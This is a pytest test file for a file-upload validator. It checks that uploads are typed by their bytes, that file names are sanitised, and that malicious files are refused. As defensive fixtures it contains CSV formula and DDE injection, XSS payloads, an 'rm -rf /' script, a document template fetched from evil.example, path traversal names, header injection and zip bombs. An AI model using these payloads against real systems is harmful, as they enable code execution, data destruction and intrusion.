"""What may be sent as a file: told apart by bytes alone, whatever it is called and said to be."""

import os

import pytest
from tests import lying

from suiban.kit.errors import SuibanError
from suiban.platform.children import FileUnreadable
from suiban.platform.file_names import attachment, clean_name
from suiban.platform.files import FileTooLarge, FileTypeRefused
from suiban.platform.uploads import VOICE_BYTES_MAX, VOICE_S_MAX, Uploads, VoiceTooLong

BYTES_MAX = 20 << 20
DOCX, XLSX, PPTX = (
    f"{lying.PREFIX}{name}"
    for name in ("wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation")
)


@pytest.mark.parametrize(
    ("content", "name", "media_type", "shown"),
    [
        (lying.pdf(), "合同.pdf", "application/pdf", "合同.pdf"),
        (lying.pdf(), "合同.exe", "application/pdf", "合同.pdf"),
        (lying.office("docx"), "a.docx", DOCX, "a.docx"),
        (lying.office("xlsx"), "a.zip", XLSX, "a.xlsx"),
        (lying.office("pptx"), "", PPTX, "file.pptx"),
        ("姓名\t金额\n".encode(), "a.txt", "text/plain", "a.txt"),
        ("余额查询记录".encode("gb18030"), "记录.html", "text/plain", "记录.txt"),
        ("日期,金额\n1日,-5\n2日,6\n".encode("utf-8-sig"), "流水.csv", "text/csv", "流水.csv"),
        ("日期,金额\n1日,5\n".encode("gb18030"), "流水.CSV", "text/csv", "流水.csv"),
        ("日期,金额\n1日,=1+1\n".encode(), "流水.csv", "text/plain", "流水.txt"),
        ("日期,金额\n1日,@SUM(1)\n".encode(), "流水.csv", "text/plain", "流水.txt"),
        ("日期,金额\n1日,-2+cmd|' /C calc'!A0\n".encode(), "流水.csv", "text/plain", "流水.txt"),
        (lying.picture(), "票据.pdf", "image/png", "票据.png"),
    ],
)
async def test_a_file_is_what_its_bytes_are(content: bytes, name: str, media_type: str, shown: str) -> None:
    upload = await Uploads(BYTES_MAX).inspect(content, name)
    assert (upload.media_type, upload.name) == (media_type, shown)
    assert upload.content == content or media_type == "image/png"
    assert name[:2] not in repr(upload) or not name


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (lying.webm(2.5), "audio/webm"),
        (lying.ogg(2.5), "audio/ogg"),
        (lying.mp4(2.5), "audio/mp4"),
        (lying.mp4(2.5, fragments=False), "audio/mp4"),
        (lying.mp4(2.5, form=b"Opus"), "audio/mp4"),
        (lying.wav(2.5), "audio/wav"),
    ],
)
async def test_a_recording_says_itself_how_long_it_is(content: bytes, media_type: str) -> None:
    upload = await Uploads(BYTES_MAX).inspect(content, "voice")
    assert (upload.media_type, upload.duration_ms, upload.content) == (media_type, 2_500, content)


NOISE = os.urandom(1_000)  # does not become smaller, so it can be found in an archive
LIES: dict[str, tuple[bytes, type[SuibanError]]] = {
    "nothing": (b"", FileTypeRefused),
    "one NUL": (b"\0", FileTypeRefused),
    "white space": (b" \r\n\t", FileTypeRefused),
    "a page": (b"<html><script>alert(1)</script>", FileTypeRefused),
    "a page behind a mark and space": ("\ufeff \n<!doctype html>".encode(), FileTypeRefused),
    "a drawing": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", FileTypeRefused),
    "a program": (b"MZ" + bytes(500), FileTypeRefused),
    "a program of Linux": (b"\x7fELF" + bytes(500), FileTypeRefused),
    "a script": (b"#!/bin/sh\nrm -rf /\n", FileTypeRefused),
    "old office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), FileTypeRefused),
    "rich text": (b"{\\rtf1 hello}", FileTypeRefused),
    "an archive": (lying.archive(), FileTypeRefused),
    "text with controls": (b"hello \x1b[2J", FileTypeRefused),
    "text in UTF-16": ("余额".encode("utf-16"), FileTypeRefused),
    "text and an archive": (b"hello\n" + lying.archive(), FileTypeRefused),
    "only a PDF's name": (b"%PDF-1.7\n", FileUnreadable),
    "a cut PDF": (lying.pdf()[:-30], FileUnreadable),
    "a PDF with more behind it": (lying.pdf(tail=b"x" * 5_000), FileUnreadable),
    "a PDF that is also an archive": (lying.pdf(tail=lying.archive()), FileTypeRefused),
    "a PDF that begins later": (b"MZ" + lying.pdf(), FileTypeRefused),
    "a cut document": (lying.office()[:-40], FileUnreadable),
    "a document with a damaged part": (
        lying.office("docx", {"word/a.jpg": NOISE}).replace(NOISE[:50], bytes(50)), FileUnreadable,
    ),
    "a document without its main part": (
        lying.archive(lying.TYPES, lying.content_types("docx").encode()), FileTypeRefused,
    ),
    "a document with macros": (lying.office("docx", {"word/vbaProject.bin": b"x"}), FileTypeRefused),
    "a document that says it has macros": (
        lying.office(types=lying.content_types("docx", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        FileTypeRefused,
    ),
    "a macro part under another name": (
        lying.office("xlsx", {"xl/a.bin": b"x"}, lying.content_types("xlsx", more=
            '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
        FileTypeRefused,
    ),
    "a document with controls": (lying.office("xlsx", {"xl/activeX/activeX1.bin": b"x"}), FileTypeRefused),
    "a document with a template from elsewhere": (
        lying.office("docx", {"word/_rels/settings.xml.rels":
            '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" '
            "TargetMode='External'/></Relationships>"}),
        FileTypeRefused,
    ),
    "a document with a document type": (
        lying.office(types='<!DOCTYPE x [<!ENTITY a "aaaa">]>' + lying.content_types("docx")), FileUnreadable,
    ),
    "a document in which a part leads elsewhere": (lying.office("docx", {"../../etc/passwd": b"x"}), FileUnreadable),
    "a document behind something": (b"PK\x03\x04" + bytes(50) + lying.office(), FileUnreadable),
    "a bomb": (lying.office("docx", {"word/a.xml": bytes(100 << 20)}), FileTooLarge),
    "a larger bomb": (lying.office("docx", {f"word/{n}.xml": bytes(20 << 20) for n in range(10)}), FileTooLarge),
    "a bomb that says it is small": (lying.lying_sizes(), FileUnreadable),
    "many parts": (lying.office("docx", {f"word/{n}.xml": b"" for n in range(5_000)}), FileTooLarge),
    "a video": (lying.webm(codec=b"V_VP8", track_type=1), FileTypeRefused),
    "a Matroska": (lying.webm(doc=b"matroska"), FileTypeRefused),
    "another sound in WebM": (lying.webm(codec=b"A_PCM/INT/LIT"), FileTypeRefused),
    "only a WebM's name": (b"\x1aE\xdf\xa3" + bytes(60), FileUnreadable),
    "another sound in Ogg": (lying.ogg(head=b"\x01vorbis\0"), FileTypeRefused),
    "a cut Ogg": (lying.ogg()[:-10], FileUnreadable),
    "an Ogg with more behind it": (lying.ogg() + b"<script>", FileUnreadable),
    "an Ogg of no length": (lying.ogg(0), FileUnreadable),
    "a film": (lying.mp4(handler=b"vide", form=b"avc1"), FileTypeRefused),
    "a cut MP4": (lying.mp4()[:-3], FileUnreadable),
    "an MP4 of no length": (lying.mp4(0, fragments=False), FileUnreadable),
    "boxes without end": (b"".join(b"\0\0\0\x08moov" for _ in range(3)).replace(b"moov", b"ftyp", 1), FileTypeRefused),
    "a WAV cut short": (lying.wav()[:-100], FileUnreadable),
    "a recording that is also an archive": (lying.wav() + lying.archive(), FileUnreadable),
    "a long recording": (lying.wav(VOICE_S_MAX + 1), VoiceTooLong),
    "a long WebM": (lying.webm(VOICE_S_MAX + 1), VoiceTooLong),
    "much sound": (lying.wav(60, 150_000), FileTooLarge),
    "a picture of too many bytes": (lying.picture() + bytes(8 << 20), FileTooLarge),
    "too many bytes": (b"x" * (BYTES_MAX + 1), FileTooLarge),
}  # fmt: skip


@pytest.mark.parametrize("kind", LIES)
async def test_what_lies_is_refused(kind: str) -> None:
    content, error = LIES[kind]
    for name in ("a.png", "a.pdf"):
        with pytest.raises(error) as refused:
            await Uploads(BYTES_MAX).inspect(content, name)
        assert type(refused.value) is error


def test_the_lies_are_the_ones_they_are_meant_to_be() -> None:
    """A table of refusals proves little where the files themselves are made wrongly."""
    assert len(LIES["much sound"][0]) > VOICE_BYTES_MAX
    assert len(LIES["a bomb"][0]) < 1 << 20
    assert NOISE in lying.office("docx", {"word/a.jpg": NOISE})
    for kind in ("a PDF that is also an archive", "text and an archive", "a recording that is also an archive"):
        assert b"PK\x05\x06" in LIES[kind][0]


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("合同.pdf", "合同.pdf"),
        ("合同.PDF", "合同.pdf"),
        ("a.pdf.exe", "a.pdf"),
        ("a.exe.pdf", "a.pdf"),
        ("合同v1.2", "合同v1.2.pdf"),
        ("../../../etc/passwd", "passwd.pdf"),
        ("..\\..\\win.ini", "win.pdf"),
        ("\u200b.htaccess", "htaccess.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("a\u202egnp.exe", "agnp.pdf"),
        ("a\r\nset-cookie: x=1", "aset-cookie_ x=1.pdf"),
        ("a\0.html", "a.pdf"),
        ("..", "file.pdf"),
        ("", "file.pdf"),
        (None, "file.pdf"),
        ("   ", "file.pdf"),
        ("CON.txt", "_CON.pdf"),
        ('"; filename="x', "_; filename=_x.pdf"),
        ("a" * 4_000 + ".exe", "a" * 96 + ".pdf"),
        ("e\u0301" + "\u0301" * 50 + ".pdf", "\u00e9" + "\u0301" * 3 + ".pdf"),
        ("．．／x", "．．／x.pdf"),
        ("\ud800x", "x.pdf"),
    ],
)
def test_a_name_is_only_for_the_eyes(given: str | None, shown: str) -> None:
    assert clean_name(given, "application/pdf") == shown


def test_a_name_is_put_into_a_header_so_that_every_browser_reads_it() -> None:
    assert attachment("合同 100%.pdf") == (
        "attachment; filename=\"__ 100_.pdf\"; filename*=UTF-8''%E5%90%88%E5%90%8C%20100%25.pdf"
    )
